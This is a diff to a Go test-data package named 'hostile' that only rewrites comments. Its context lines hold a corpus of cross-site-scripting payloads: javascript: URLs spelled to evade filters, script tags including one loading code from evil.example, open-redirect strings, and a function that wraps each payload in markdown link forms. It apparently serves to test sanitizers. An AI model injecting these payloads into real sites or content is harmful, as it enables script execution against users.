@@ -1,5 +1,5 @@
-// Package hostile is what an attacker writes into whatever others will read: each text was somewhere, once, more
-// than text.
+// Package hostile contains an attacker's texts: each of them was once interpreted as more than text
+// somewhere.
 package hostile
 
 import (
@@ -7,7 +7,7 @@ import (
 	"strings"
 )
 
-// Scripts are what an attacker wants to run, spelled in the ways that got past filters.
+// Scripts are scripts that an attacker wants to run, in spellings that evaded filters.
 var Scripts = []string{
 	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)",
 	" javascript:alert(1)", "\x01javascript:alert(1)",
@@ -18,7 +18,7 @@ var Scripts = []string{
 	`\\evil.example\x`, `/\evil.example`,
 }
 
-// Markups are whole pieces of HTML and SVG.
+// Markups are pieces of HTML and SVG.
 var Markups = []string{
 	`<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script src=//evil.example/x.js></script>`,
 	`</title><script>alert(1)</script>`,
@@ -47,8 +47,8 @@ var Markups = []string{
 	`<%= alert(1) %>`,
 }
 
-// Payloads are the payloads: each script in each way a text can carry an address, each markup bare and in what may
-// unwrap it.
+// Payloads returns all payloads: each script in every form of an address, and each markup alone and
+// in contexts that might interpret it.
 func Payloads() (all []string) {
 	for _, s := range Scripts {
 		for _, form := range []string{"[x](%s)", "[x](<%s>)", "![x](%s)", "<%s>", "[x][a]\n\n[a]: %s", "%s",
